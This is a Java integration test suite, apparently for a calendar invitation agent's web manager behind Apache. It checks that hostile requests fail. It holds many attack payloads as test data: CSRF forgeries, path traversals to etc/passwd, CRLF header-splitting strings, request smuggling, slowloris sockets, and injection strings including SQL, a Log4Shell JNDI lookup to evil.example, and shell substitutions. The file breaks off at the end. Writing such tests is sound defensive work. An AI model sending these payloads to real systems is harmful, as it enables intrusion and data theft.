package org.imipagent.web;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.imipagent.web.TestInstance.PAUL;
import static org.imipagent.web.TestInstance.VINCENT;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import org.imipagent.cgi.HttpMethod;
import org.imipagent.cgi.Links;
import org.imipagent.cgi.Routes;
import org.imipagent.cgi.Tokens;
import org.imipagent.manager.ImportSteps;
import org.imipagent.manager.Manager;
import org.imipagent.manager.PeerCalendars;
import org.imipagent.settings.Settings;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * What somebody who means harm sends, through a real Apache: the kinds of attack that OWASP lists,
 * as far as ManagerIT and the unit tests of the pages do not have them. What holds for every route
 * is asked of each in the program's own table, so that a new one is asked too.
 */
class HostileRequestsIT {

    private static final String SECRET = "Secret burrow of Paul";
    private static final String UID = "open@burrow.example.com";
    private static final String PAULS = "paul-only@example.com";
    private static final String NOBODYS = "none--only@example.com";

    /** Known, and has no events; somebody who never got a mail. */
    private static final String KNOWN = "known@example.com";

    private static final String UNKNOWN = "never@example.com";

    /** In files that no address of the web leads to. */
    private static final String MARK = "no-address-leads-here";

    @SuppressWarnings("NullAway.Init")
    private static Path folder;

    @SuppressWarnings("NullAway.Init")
    private static TestInstance instance;

    @SuppressWarnings("NullAway.Init")
    private static Front.Apache front;

    /** The entry of activity that tells of Paul's reply, which he may take back. */
    private static long paulsActivity;

    @BeforeAll
    static void start() throws IOException {
        folder = TestInstance.temporary();
        var installation = InstalledProgram.reachable(folder);
        instance = TestInstance.in(installation, folder.resolve("i"));
        receive(VINCENT, TestInstance.invitation(VINCENT, "Berries", UID, "split@example.com"));
        receive(PAUL, TestInstance.invitation(PAUL, SECRET, PAULS, "answered@example.com"));
        instance.agent("user", "add", KNOWN).succeed();
        instance.agent("preferences", "set", "--user", KNOWN, "freebusy_publishing", "no")
                .succeed();
        instance.agent("freebusy", "publish").succeed();
        for (var file : List.of("secret.ics", "published/../store/secret.ics", "config.secret")) {
            Files.writeString(instance.folder().resolve(file), MARK);
        }
        Path own = folder.resolve("a");
        Path users = Front.Apache.passwords(own, List.of(VINCENT, PAUL, KNOWN, UNKNOWN));
        front =
                new Front.Apache(
                        RunningApache.start(
                                RunningApache.Plan.in(
                                                own,
                                                Port.free(),
                                                Front.Apache.defines(instance, users))
                                        .more("RequestReadTimeout header=3 body=3\n")));
        var target = "/event/answered@example.com";
        var version = field(front.ask(Ask.get(target).by(PAUL)).body(), "version");
        var reply = formOf(PAUL, target, "action", "decline", "version", version).by(PAUL);
        var done = front.ask(reply);
        assertEquals(303, done.status(), done.toString());
        paulsActivity = instance.settled().activity(PAUL).getFirst().number();
    }

    @AfterAll
    static void stop() {
        front.apache().close();
        TestFolders.remove(folder);
    }

    private static void receive(String recipient, byte[] mail) {
        var ended = instance.print(mail, recipient);
        assertEquals(0, ended.status(), ended.err());
    }

    // ---- the table of the program

    /** Nothing of it is called: only which routes there are is asked. */
    private static List<Routes.Route> routes() {
        return new Manager(
                        () -> {
                            throw never();
                        },
                        (data, user) -> {
                            throw never();
                        },
                        text -> {
                            throw never();
                        },
                        asked -> {
                            throw never();
                        },
                        asked -> {
                            throw never();
                        },
                        (data, asked) -> {
                            throw never();
                        },
                        asked -> {
                            throw never();
                        },
                        Settings.defaults(),
                        new ImportSteps(
                                1,
                                chosen -> {
                                    throw never();
                                },
                                order -> {
                                    throw never();
                                }),
                        new PeerCalendars(
                                (data, asked) -> {
                                    throw never();
                                },
                                (user, people) -> {
                                    throw never();
                                },
                                data -> {
                                    throw never();
                                },
                                question -> {
                                    throw never();
                                }),
                        () -> {
                            throw never();
                        },
                        Instant.EPOCH)
                .routes()
                .lines();
    }

    private static AssertionError never() {
        return new AssertionError("only the table is asked for");
    }

    static List<String> gets() {
        return paths(HttpMethod.GET);
    }

    static List<String> posts() {
        return paths(HttpMethod.POST);
    }

    private static List<String> paths(HttpMethod method) {
        var paths =
                routes().stream()
                        .filter(route -> route.method() == method)
                        .map(Routes.Route::path)
                        .toList();
        assertTrue(paths.size() > 5, () -> "only " + paths);
        return paths;
    }

    /** A path of the table with the identifier of an event in it. */
    private static String filled(String path, String uid) {
        var filled =
                path.replace("{id}", TestInstance.day() + "T120000Z")
                        .replace("{address}", "nobody%40example.com");
        return filled.replace(
                "{uid}", new Links("").to("event", uid).substring("/event/".length()));
    }

    // ---- forms

    private static Tokens tokens() {
        try (var store = instance.store();
                var reading = store.read()) {
            return new Tokens(reading.secret());
        }
    }

    private static String token(String user) {
        return tokens().issue(user, Instant.now());
    }

    /** A good form of Vincent's. */
    private static Ask form(String target, String... fields) {
        return formOf(VINCENT, target, fields);
    }

    private static Ask formOf(String user, String target, String... fields) {
        return untrusted(target, token(user), fields).with("Origin", front.origin());
    }

    private static Ask untrusted(String target, String token, String... fields) {
        var all = new ArrayList<>(List.of("token", token));
        all.addAll(List.of(fields));
        return Ask.form(target, all.toArray(String[]::new));
    }

    private static String field(String page, String name) {
        var found = Pattern.compile("name=\"" + name + "\" value=\"([^\"]*)\"").matcher(page);
        assertTrue(found.find(), name + " in " + page);
        return found.group(1);
    }

    /** Every row of every table, as text. */
    private static String kept() {
        var url = "jdbc:sqlite:" + instance.database();
        var rows = new StringBuilder();
        try (var connection = DriverManager.getConnection(url);
                var names = connection.createStatement();
                var tables =
                        names.executeQuery("SELECT name FROM sqlite_master WHERE type='table'")) {
            while (tables.next()) {
                var table = tables.getString(1);
                try (var statement = connection.createStatement();
                        var row = statement.executeQuery("SELECT * FROM \"" + table + "\"")) {
                    int columns = row.getMetaData().getColumnCount();
                    while (row.next()) {
                        rows.append(table);
                        for (int i = 1; i <= columns; i++) {
                            rows.append('|').append(row.getString(i));
                        }
                        rows.append('\n');
                    }
                }
            }
        } catch (SQLException trouble) {
            throw new AssertionError(trouble);
        }
        assertTrue(rows.toString().contains(SECRET), "the rows are not read");
        return rows.toString();
    }

    // ---- forged forms (CSRF)

    @ParameterizedTest
    @MethodSource("posts")
    void aForgedFormChangesNothing(String path) {
        var target = filled(path, UID);
        var good = form(target, "action", "accept");
        var tokens = tokens();
        var own = token(VINCENT);
        var old = tokens.issue(VINCENT, Instant.now().minus(Duration.ofDays(31)));
        var foreign = new Tokens(Tokens.random(32)).issue(VINCENT, Instant.now());
        var other = own.charAt(own.length() - 4) == 'A' ? "B" : "A";
        var changed = own.substring(0, own.length() - 4) + other + own.substring(own.length() - 3);
        var forged = new TreeMap<String, Ask>();
        forged.put("another site", good.with("Origin", "https://evil.example"));
        forged.put("a sandbox", good.with("Origin", "null"));
        forged.put("our name, other port", good.with("Origin", "http://127.0.0.1:1"));
        forged.put(
                "our name, other scheme",
                good.with("Origin", front.origin().replace("http", "https")));
        forged.put("cross-site", good.with("Sec-Fetch-Site", "cross-site"));
        forged.put("same-site", good.with("Sec-Fetch-Site", "same-site"));
        forged.put(
                "referer",
                untrusted(target, own).with("Referer", "https://evil.example/imip-manager/"));
        forged.put("no origin, no token", Ask.form(target, "action", "accept"));
        for (var token :
                Map.of(
                                "empty",
                                "",
                                "garbage",
                                "x".repeat(75),
                                "Paul's",
                                token(PAUL),
                                "old",
                                old,
                                "of another site",
                                foreign,
                                "changed",
                                changed,
                                "cut off",
                                own.substring(1))
                        .entrySet()) {
            forged.put(
                    "token: " + token.getKey(),
                    untrusted(target, token.getValue()).with("Origin", front.origin()));
        }
        var before = kept();
        forged.forEach(
                (how, ask) -> {
                    var answer = front.ask(ask);
                    assertEquals(403, answer.status(), path + ", " + how + ": " + answer);
                    assertTrue(answer.ours(), how);
                });
        assertEquals(before, kept(), path);
        assertNotEquals(403, front.ask(good).status(), "the form itself was good");
    }

    // ---- what is somebody else's

    /** What differs from one answer to the next anyway. */
    private static String comparable(Answer answer, String... same) {
        var body = answer.body().replaceAll("name=\"token\" value=\"[^\"]+\"", "TOKEN");
        body = body.replaceAll("[0-9a-v]{9}-[0-9a-v]+", "REFERENCE");
        for (var word : same) {
            // A number is looked for where it is a value.
            body =
                    word.matches("\\d+")
                            ? body.replaceAll(
                                    "((?:activity|draft|done)(?:=|\" value=\"))"
                                            + word
                                            + "(?=[\"&])",
                                    "$1WHAT")
                            : body.replace(word, "WHAT");
        }
        return answer.status() + " " + answer.header("Content-Type") + "\n" + body;
    }

    private static void assertTellsNothing(Ask ask, Answer answer) {
        var all = answer.headers() + answer.body();
        for (var secret : List.of(SECRET, "answered@example.com")) {
            assertFalse(all.contains(secret), () -> ask + " tells " + secret + ": " + answer);
        }
    }

    /** Paul's event is to Vincent as one that is nobody's. */
    @ParameterizedTest
    @MethodSource("gets")
    void nobodySeesAnothersEvent(String path) {
        for (var type : List.of("text/html", "application/json")) {
            var pauls = Ask.get(filled(path, PAULS)).with("Accept", type);
            var answer = front.ask(pauls);
            assertTellsNothing(pauls, answer);
            if (path.contains("{")) {
                assertEquals(404, answer.status(), path);
                var nobodys = front.ask(Ask.get(filled(path, NOBODYS)).with("Accept", type));
                assertEquals(comparable(nobodys, NOBODYS), comparable(answer, PAULS), path);
                assertEquals(200, front.ask(Ask.get("/event/" + PAULS).by(PAUL)).status());
            }
        }
    }

    /** Whatever a page takes from its address, Paul's is not to be had with it. */
    @ParameterizedTest
    @MethodSource("gets")
    void noQueryLeadsToWhatIsAnothers(String path) {
        var number = Long.toString(paulsActivity);
        var pauls =
                "?uid=UID&done=NUMBER&activity=NUMBER&draft=NUMBER&edit=1&also=1&q=burrow&from=2001-01-01"
                        + "&move=UID&occurrence=UID&user=paul.otter@example.com";
        var target = filled(path, UID);
        var ask = Ask.get(target + pauls.replace("UID", PAULS).replace("NUMBER", number));
        var answer = front.ask(ask);
        assertFalse((answer.headers() + answer.body()).contains(SECRET), answer.toString());
        var nobodys = target + pauls.replace("UID", NOBODYS).replace("NUMBER", "987654321");
        assertEquals(
                comparable(front.ask(Ask.get(nobodys)), NOBODYS, "987654321"),
                comparable(answer, PAULS, number),
                path);
    }

    @ParameterizedTest
    @MethodSource("posts")
    void nobodyActsOnWhatIsAnothers(String path) {
        var before = kept();
        for (var action :
                List.of(
                        "accept", "decline", "remove", "save", "send", "cancel", "check",
                        "let-in")) {
            var pauls = answerOfAct(path, action, PAULS, Long.toString(paulsActivity));
            var nobodys = answerOfAct(path, action, NOBODYS, "987654321");
            assertEquals(
                    comparable(nobodys, NOBODYS, "987654321"),
                    comparable(pauls, PAULS, Long.toString(paulsActivity)),
                    path + " " + action);
            assertTrue(!path.contains("{") || pauls.status() == 404, action + ": " + pauls);
        }
        assertEquals(rowsOfPaul(before), rowsOfPaul(kept()), path);
    }

    private static Answer answerOfAct(String path, String action, String uid, String number) {
        return front.ask(
                form(
                        filled(path, uid),
                        "action",
                        action,
                        "version",
                        "1",
                        "uid",
                        uid,
                        "activity",
                        number,
                        "draft",
                        number,
                        "title",
                        "Mine",
                        "comment",
                        "x"));
    }

    private static List<String> rowsOfPaul(String kept) {
        var rows = kept.lines().filter(row -> row.contains(PAUL)).toList();
        assertTrue(rows.size() > 3, kept);
        return rows;
    }

    /** What Paul did he alone can undo; the number of another's act is as good as none. */
    @Test
    void nobodyTakesBackWhatAnotherDid() {
        var theirs = form("/activity", "action", "restore", "activity", "" + paulsActivity);
        var none = form("/activity", "action", "restore", "activity", "987654321");
        var answer = front.ask(theirs);
        assertEquals(409, answer.status(), answer.toString());
        assertEquals(comparable(front.ask(none)), comparable(answer));
        assertTrue(kept().contains("PARTSTAT=DECLINED"), "Paul's reply stands");
    }

    /** The files that Paul chose wait for him alone. */
    @Test
    void nobodyTakesTheFilesThatAnotherChose() {
        var boundary = "burrow-7d1";
        var draft =
                "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//EN\r\nBEGIN:VEVENT\r\nUID:drafted@example.com\r\n"
                        + "DTSTAMP:20261101T000000Z\r\nDTSTART:20301120T090000Z\r\nSUMMARY:"
                        + SECRET
                        + "\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
        var part = "--" + boundary + "\r\nContent-Disposition: form-data; name=";
        var body =
                part
                        + "\"token\"\r\n\r\n"
                        + token(PAUL)
                        + "\r\n"
                        + part
                        + "\"action\"\r\n\r\nlook\r\n"
                        + part
                        + "\"files\"; filename=\"a.ics\"\r\nContent-Type: text/calendar\r\n\r\n"
                        + draft
                        + "\r\n--"
                        + boundary
                        + "--\r\n";
        var looked =
                front.ask(
                        Ask.post("/import", body.getBytes(UTF_8))
                                .by(PAUL)
                                .with("Origin", front.origin())
                                .with("Content-Type", "multipart/form-data; boundary=" + boundary));
        assertEquals(200, looked.status(), looked.toString());
        var name = field(looked.body(), "draft");
        var theirs = front.ask(form("/import", "action", "import", "draft", name));
        assertEquals(409, theirs.status(), theirs.toString());
        assertTellsNothing(Ask.get("/import"), theirs);
        assertEquals(
                comparable(front.ask(form("/import", "action", "import", "draft", "x".repeat(32)))),
                comparable(theirs));
        var own = front.ask(formOf(PAUL, "/import", "action", "import", "draft", name).by(PAUL));
        assertEquals(303, own.status(), "it was there for Paul");
    }

    // ---- who exists

    @Test
    void whoHasNoEventsAndWhoIsUnknownAreAnsweredAlike() throws IOException {
        for (var path : List.of("/", "/requests", "/activity", "/search?q=x", "/event/none")) {
            assertEquals(
                    comparable(front.ask(Ask.get(path).by(UNKNOWN)), UNKNOWN),
                    comparable(front.ask(Ask.get(path).by(KNOWN)), KNOWN),
                    path);
        }
        // Without a log-in: no word about who has one.
        var wrong = "Basic " + Base64.getEncoder().encodeToString((VINCENT + ":x").getBytes(UTF_8));
        var nobody = "Basic " + Base64.getEncoder().encodeToString("nobody@x:x".getBytes(UTF_8));
        var refused = front.ask(Ask.get("/").by(null).with("Authorization", wrong));
        assertEquals(401, refused.status());
        assertEquals(
                comparable(front.ask(Ask.get("/").by(null).with("Authorization", nobody))),
                comparable(refused));
        // Published: whoever publishes nothing is not told from whoever is not there.
        for (var form :
                List.of(
                        "/freebusy/%s",
                        "/freebusy/%s.ifb", "/freebusy?%s", "/freebusy/mailto%%3A%s/freebusy")) {
            var known = front.apache().get(form.formatted(KNOWN));
            var none = front.apache().get(form.formatted(UNKNOWN));
            assertEquals(404, known.statusCode(), form);
            assertEquals(none.body(), known.body(), form);
            assertEquals(withoutDate(none), withoutDate(known), form);
            assertEquals(200, front.apache().get(form.formatted(VINCENT)).statusCode(), form);
        }
        // Apache finds nothing in either case: it has as little to do.
        try (var files = Files.walk(instance.folder().resolve("published"))) {
            assertEquals(
                    List.of(),
                    files.map(Path::toString).filter(name -> name.contains("known")).toList());
        }
    }

    private static Map<String, List<String>> withoutDate(HttpResponse<String> answer) {
        var headers = new TreeMap<>(answer.headers().map());
        headers.remove("date");
        return headers;
    }

    // ---- paths that lead elsewhere

    private static List<String> traversals() {
        var ups =
                List.of(
                        "../",
                        "..%2f",
                        "%2e%2e/",
                        "%2e%2e%2f",
                        "%252e%252e/",
                        "%252e%252e%252f",
                        "..%5c",
                        "..%255c",
                        "....//",
                        ".%00./",
                        "%c0%ae%c0%ae/",
                        "%c0%ae%c0%ae%c0%af",
                        "..;/",
                        "./../",
                        "%uff0e%uff0e/",
                        "..%c1%9c");
        var targets = List.of("secret.ics", "config.txt", "config.secret", "store/secret.ics");
        var paths = new ArrayList<String>();
        for (var up : ups) {
            for (int times = 1; times <= 3; times++) {
                for (var target : targets.subList(0, times == 1 ? 4 : 2)) {
                    paths.add(up.repeat(times) + target);
                }
            }
            paths.add(up.repeat(12) + "etc/passwd");
        }
        return paths;
    }

    @Test
    void noPathLeadsOutOfThePublishedFolderOrTheStyleSheets() throws IOException {
        var before = front.apache().log().length();
        for (var traversal : traversals()) {
            for (var place :
                    List.of(
                            "/freebusy/",
                            "/freebusy?",
                            "/freebusy/feeds/",
                            "/freebusy/" + VINCENT + "/",
                            "/freebusy/mailto%3A" + VINCENT + "/",
                            "/imip-manager/static/",
                            "/imip-manager/static/manager.0123456789ab.css/")) {
                assertLeadsNowhere(place + traversal, null);
            }
        }
        assertTrue(Files.readString(instance.folder().resolve("secret.ics")).contains(MARK));
        assertTrue(front.apache().log().length() >= before);
    }

    /** Of the manager every path is the program's: some of each kind. */
    @Test
    void noPathLeadsOutOfTheManager() throws IOException {
        for (var traversal : traversals()) {
            if (traversal.endsWith("passwd")) {
                for (var place : List.of("/imip-manager/", "/imip-manager/event/")) {
                    assertLeadsNowhere(place + traversal, VINCENT);
                }
            }
        }
    }

    private static void assertLeadsNowhere(String path, @Nullable String user) throws IOException {
        var login = user == null ? "" : "Authorization: Basic " + basic(user) + "\r\n";
        var answer = raw("GET " + path + " HTTP/1.0\r\nHost: localhost\r\n" + login + "\r\n");
        var status = answer.status();
        assertTrue(status / 100 == 4 || status / 100 == 3, path + ": " + answer);
        assertFalse(answer.body().contains(MARK), path);
        assertFalse(answer.body().contains("root:"), path);
        assertFalse(answer.body().contains("STORE_DIR"), path);
        if (status / 100 == 3) {
            assertOurs(answer.header("Location"), path);
        }
    }

    private static String basic(String user) {
        return Base64.getEncoder()
                .encodeToString((user + ":" + Front.Apache.PASSWORD).getBytes(UTF_8));
    }

    /** The octets as they are: no library mends them. */
    private static Answer raw(String request) throws IOException {
        try (var socket = connected()) {
            socket.getOutputStream().write(request.getBytes(UTF_8));
            socket.getOutputStream().flush();
            return Answer.of(socket.getInputStream().readAllBytes(), "");
        }
    }

    private static Socket connected() throws IOException {
        var socket = new Socket(InetAddress.getLoopbackAddress(), front.apache().port().number());
        socket.setSoTimeout(60_000);
        return socket;
    }

    /** What lies under a person's name and leads elsewhere is replaced, and not written through. */
    @Test
    void aLinkInThePublishedFolderIsReplacedAndNotFollowed() throws IOException {
        var outside = instance.folder().resolve("outside");
        Files.writeString(outside, MARK);
        instance.give(outside);
        var published = instance.folder().resolve("published");
        var file = published.resolve("mailto%3Apaul.otter%40example.com/freebusy");
        var plain = published.resolve(PAUL);
        Files.delete(file);
        Files.createSymbolicLink(file, outside);
        Files.delete(plain);
        Files.createSymbolicLink(plain, outside);
        instance.agent("freebusy", "publish").succeed();
        assertEquals(MARK, Files.readString(outside), "nothing is written through it");
        assertFalse(Files.isSymbolicLink(file));
        var served = front.apache().get("/freebusy/" + PAUL + ".ifb");
        assertEquals(200, served.statusCode());
        assertTrue(served.body().contains("BEGIN:VFREEBUSY"), served.body());
    }

    // ---- splitting answers

    private static final List<String> SPLITS =
            List.of(
                    "%0d%0aX-Injected:%20yes%0d%0a%0d%0a%3Chtml%3Esplit",
                    "%0aX-Injected:%20yes",
                    "%0dX-Injected:%20yes",
                    "%E5%98%8D%E5%98%8AX-Injected:%20yes",
                    "%C2%85X-Injected:%20yes%E2%80%A8X-Injected:%20yes");

    /** Names of fields and of what stands in links, as the pages themselves have them. */
    private static Set<String> names(String page) {
        var names = new LinkedHashSet<String>();
        Pattern.compile("(?:name=\"|[?&](?:amp;)?)([a-z][a-z-]*)[=\"]")
                .matcher(page)
                .results()
                .forEach(found -> names.add(found.group(1)));
        return names;
    }

    @ParameterizedTest
    @MethodSource("gets")
    void noParameterSplitsAnAnswer(String path) {
        var target = filled(path, UID);
        var names = names(front.ask(Ask.get(target)).body());
        names.addAll(List.of("uid", "done", "back", "date", "view", "new", "from", "edit", "page"));
        int at = 0;
        for (var name : names) {
            at++;
            assertWhole(Ask.get(target + "?" + name + "=x" + SPLITS.get(at % SPLITS.size())));
        }
        for (var split : SPLITS) {
            var all = new StringBuilder(target).append("?x=1");
            names.forEach(name -> all.append('&').append(name).append("=x").append(split));
            assertWhole(Ask.get(all.toString()));
            assertWhole(Ask.get(filled(path, "x").replace("/x", "/x" + split)));
        }
    }

    private static void assertWhole(Ask ask) {
        var answer = front.ask(ask);
        assertFalse(answer.headers().containsKey("x-injected"), () -> ask + ": " + answer);
        assertFalse(answer.body().startsWith("<html>split"), () -> ask + ": " + answer);
        assertNotEquals(500, answer.status(), () -> ask + ": " + answer);
        assertOurs(answer.header("Location"), ask.toString());
    }

    /** A redirect leads to a page of ours. */
    private static void assertOurs(String location, String what) {
        var path =
                location.startsWith(front.origin())
                        ? location.substring(front.origin().length())
                        : location;
        assertTrue(
                path.isEmpty() || path.startsWith("/imip-manager") || path.startsWith("/freebusy"),
                what + " leads to " + location);
        assertFalse(path.startsWith("//"), what);
    }

    private static final Pattern FORM = Pattern.compile("(?s)<form ([^>]*)>(.*?)</form>");
    private static final Pattern ACTION = Pattern.compile("action=\"/imip-manager([^\"]*)\"");
    private static final Pattern CHOICE = Pattern.compile("name=\"action\" value=\"([^\"]*)\"");
    private static final Pattern PRESET =
            Pattern.compile("name=\"(version|made-from|made-with)\" value=\"([^\"]*)\"");

    /** Every form of every page, with each of its buttons, splits in all of its fields. */
    @Test
    void noFieldSplitsAnAnswer() {
        var seen = new LinkedHashSet<String>();
        for (var path : gets()) {
            var page = front.ask(Ask.get(filled(path, "split@example.com"))).body();
            FORM.matcher(page)
                    .results()
                    .filter(form -> form.group(1).contains("method=\"post\""))
                    .forEach(form -> split(form.group(1), form.group(2), seen));
        }
        assertTrue(seen.size() > 12, "only " + seen);
        assertTrue(seen.stream().anyMatch(one -> one.endsWith(" 303")), seen.toString());
    }

    private static void split(String tag, String inner, Set<String> seen) {
        var action = ACTION.matcher(tag);
        assertTrue(action.find(), tag);
        var target = action.group(1);
        for (var choice :
                CHOICE.matcher(inner).results().map(one -> one.group(1)).distinct().toList()) {
            for (var split :
                    List.of(
                            "\r\nX-Injected: yes\r\n\r\n<html>split",
                            "//evil.example/\nX-Injected: yes")) {
                var fields = new TreeMap<String, String>();
                names(inner).forEach(name -> fields.put(name, "x" + split));
                PRESET.matcher(inner)
                        .results()
                        .forEach(one -> fields.put(one.group(1), one.group(2)));
                fields.put("back", split.startsWith("//") ? split : "/" + split);
                fields.remove("token");
                fields.put("action", choice);
                var flat = new ArrayList<String>();
                fields.forEach((name, value) -> flat.addAll(List.of(name, value)));
                var ask = form(target, flat.toArray(String[]::new));
                assertWhole(ask);
                seen.add(target + " " + choice + " " + front.ask(ask).status());
            }
        }
    }

    // ---- frames, types and caches

    /**
     * No answer may be shown in a frame, whatever became of the request. (What Apache cannot read
     * at all it answers with a 400 that belongs to no site.)
     */
    @Test
    void noAnswerIsShownInAFrame() throws IOException {
        var asks = new ArrayList<Ask>();
        for (var path : gets()) {
            asks.add(Ask.get(filled(path, UID)));
            asks.add(Ask.get(filled(path, NOBODYS)));
            asks.add(Ask.get(filled(path, UID)).method("DELETE"));
        }
        for (var path : posts()) {
            asks.add(Ask.form(filled(path, UID), "action", "accept"));
            asks.add(form(filled(path, UID), "action", "none"));
        }
        asks.add(Ask.get("/").by(null));
        asks.add(Ask.get("/").by("nobody@example.com"));
        asks.add(Ask.get("/event/%ff"));
        asks.add(form("/new", "action", "save").with("Content-Type", "text/plain"));
        asks.add(Ask.post("/new", new byte[3_000_000]));
        asks.add(Ask.get("/static/manager.css").by(null));
        asks.add(Ask.get("/static/none.css").by(null));
        var statuses = new LinkedHashSet<Integer>();
        for (var ask : asks) {
            var answer = front.ask(ask);
            assertFramed(ask.toString(), answer.header("Content-Security-Policy"));
            assertEquals("nosniff", answer.header("X-Content-Type-Options"), ask.toString());
            statuses.add(answer.status());
        }
        for (int status : List.of(200, 302, 401, 403, 404, 405, 413, 415, 422)) {
            assertTrue(statuses.contains(status), status + " is not among " + statuses);
        }
        for (var path : List.of("/freebusy/" + VINCENT + ".ifb", "/freebusy/none@example.com")) {
            var file = front.apache().get(path);
            assertFramed(path, file.headers().firstValue("Content-Security-Policy").orElse(""));
        }
    }

    private static void assertFramed(String what, String policy) {
        assertTrue(policy.startsWith("default-src 'none'"), what + ": " + policy);
        assertTrue(policy.contains("frame-ancestors 'none'"), what + ": " + policy);
        assertFalse(policy.contains("unsafe"), what + ": " + policy);
    }

    // ---- HTTP_PROXY

    /** "httpoxy": the header Proxy becomes HTTP_PROXY, which some libraries obey. */
    @Test
    void aRequestNamesNoProxyForWhatTheProgramReads() throws Exception {
        var proxied = new AtomicInteger();
        var asked = new AtomicInteger();
        try (var proxy = new ServerSocket(0, 10, InetAddress.getLoopbackAddress());
                var source = new ServerSocket(0, 10, InetAddress.getLoopbackAddress())) {
            answer(proxy, proxied);
            answer(source, asked);
            instance.set(
                    "FREEBUSY_LOOKUP = 'example.net http://127.0.0.1:%d/fb/{address}.ifb'"
                            .formatted(source.getLocalPort()));
            var evil = "http://127.0.0.1:" + proxy.getLocalPort() + "/";
            var look = form("/find-a-time", "action", "look", "attendee", "somebody@example.net");
            var answer = front.ask(look.with("Proxy", evil).with("HTTP-Proxy", evil));
            assertTrue(answer.status() < 400, answer.toString());
            assertEquals(1, asked.get(), "somebody's free/busy is asked for");
            assertEquals(0, proxied.get(), "and not through the request's proxy");
        } finally {
            instance.set("FREEBUSY_LOOKUP = ''");
        }
    }

    private static void answer(ServerSocket server, AtomicInteger count) {
        Thread.ofVirtual()
                .start(
                        () -> {
                            while (!server.isClosed()) {
                                try (var socket = server.accept()) {
                                    count.incrementAndGet();
                                    socket.getOutputStream()
                                            .write(
                                                    "HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n"
                                                            .getBytes(UTF_8));
                                } catch (IOException closed) {
                                    return;
                                }
                            }
                        });
    }

    // ---- floods

    @Test
    void tooMuchIsRefusedBeforeTheProgramIsStarted() throws IOException {
        var many = new StringBuilder();
        for (int i = 0; i < 200; i++) {
            many.append("X-").append(i).append(": 1\r\n");
        }
        var start =
                "GET /imip-manager/ HTTP/1.0\r\nHost: localhost\r\nAuthorization: Basic "
                        + basic(VINCENT)
                        + "\r\n";
        var log = front.apache().log().length();
        assertEquals(400, raw(start + many + "\r\n").status());
        assertEquals(400, raw(start + "X: " + "x".repeat(10_000) + "\r\n\r\n").status());
        assertEquals(400, raw(start + "no header at all\r\n\r\n").status());
        assertEquals(
                414, raw("GET /imip-manager/?" + "x".repeat(9000) + " HTTP/1.0\r\n\r\n").status());
        var huge =
                "POST /imip-manager/new HTTP/1.0\r\nHost: localhost\r\nContent-Length: 34000000\r\nAuthorization: Basic ";
        assertEquals(413, raw(huge + basic(VINCENT) + "\r\n\r\n").status());
        // Without a log-in it does not come to that.
        assertEquals(
                401,
                raw("POST /imip-manager/new HTTP/1.0\r\nHost: localhost\r\nContent-Length: 9\r\n\r\naction=ab")
                        .status());
        assertFalse(
                front.apache().log().substring(log).contains("imip-manager: time="),
                "the program was started");
        assertEquals(200, raw(start + "\r\n").status(), "the request itself was good");
        // Two lengths, or a length and pieces: what a proxy in front would understand otherwise.
        var post =
                "POST /imip-manager/new HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nAuthorization: Basic "
                        + basic(VINCENT)
                        + "\r\nContent-Type: "
                        + Ask.FORM
                        + "\r\n";
        assertEquals(
                400, raw(post + "Content-Length: 3\r\nContent-Length: 40\r\n\r\na=b").status());
        var smuggled =
                raw(
                        post
                                + "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\nHost: x\r\n\r\n");
        assertTrue(smuggled.status() / 100 == 4, smuggled.toString());
        assertFalse(smuggled.body().contains("HTTP/1.1 "), "a second answer: " + smuggled);
    }

    /**
     * Who sends a header or a form one octet after the other is let go, and others get in
     * meanwhile.
     */
    @Test
    void whoIsSlowIsLetGoAndHoldsNobodyUp() throws IOException {
        var before = kept();
        var slow = new ArrayList<Socket>();
        try {
            for (int i = 0; i < 40; i++) {
                slow.add(begun("GET /imip-manager/ HTTP/1.1\r\nHost: local"));
            }
            for (int i = 0; i < 4; i++) {
                slow.add(
                        begun(
                                "POST /imip-manager/event/"
                                        + UID
                                        + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: "
                                        + Ask.FORM
                                        + "\r\nContent-Length: 400\r\nAuthorization: Basic "
                                        + basic(VINCENT)
                                        + "\r\n\r\naction=acc"));
            }
            assertEquals(200, front.ask(Ask.get("/")).status(), "others get in meanwhile");
            for (var socket : slow) {
                var answer = new String(socket.getInputStream().readAllBytes(), UTF_8);
                assertTrue(answer.isEmpty() || answer.matches("(?s)HTTP/1.1 (408|400) .*"), answer);
            }
        } finally {
            for (var socket : slow) {
                socket.close();
            }
        }
        assertEquals(before, kept());
    }

    private static Socket begun(String start) throws IOException {
        var socket = connected();
        socket.getOutputStream().write(start.getBytes(UTF_8));
        socket.getOutputStream().flush();
        return socket;
    }

    /** A field of text takes what it is given, whatever that does elsewhere. */
    @Test
    void whatIsSentAsTextStaysText() {
        var words =
                List.of(
                        "'; DROP TABLE event; --",
                        "\" OR \"\"=\"",
                        "${jndi:ldap://evil.example/x}",
                        "{{7*7}}",
                        "$(touch x)",
                        "`id`",
                        "|id",
                        "%s%n%x",
                        "<!--#exec cmd=\"id\"-->",
                        "@{7*7}",
                        "\\u0000",
                        "=cmd|' /C calc'!A0",
                        "*)(uid=*))(|(uid=*");
        var before = kept().lines().filter(row -> row.startsWith("event|")).count();
        for (var word : words) {
